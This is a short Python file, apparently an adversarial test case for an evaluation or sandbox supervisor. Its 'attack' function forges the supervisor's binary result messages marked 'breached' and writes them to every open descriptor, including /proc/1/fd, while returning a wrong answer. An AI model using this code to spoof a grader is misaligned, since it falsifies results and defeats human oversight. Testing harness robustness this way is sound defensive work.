import contextlib
import os
import struct


def attack(context):
    """Reports in the supervisor's own binary form, on whatever can be written to."""
    body = b'{"value": "breached"}'
    reports = [
        struct.pack(form, 0, 0, 0, 0.1, 0.1, 1000, len(body), 0, 0) + body for form in ("<BBiddQIII", "@BBiddQIII")
    ]
    places = [
        *range(1, 64),
        *(f"{folder}/{number}" for folder in ("/proc/1/fd", "/proc/self/fd") for number in range(64)),
    ]
    for place in places:
        with contextlib.suppress(OSError):
            descriptor = place if isinstance(place, int) else os.open(place, os.O_WRONLY | os.O_NONBLOCK)
            os.write(descriptor, b"ready\n" + b"".join(reports) * 3)
    return "wrong"
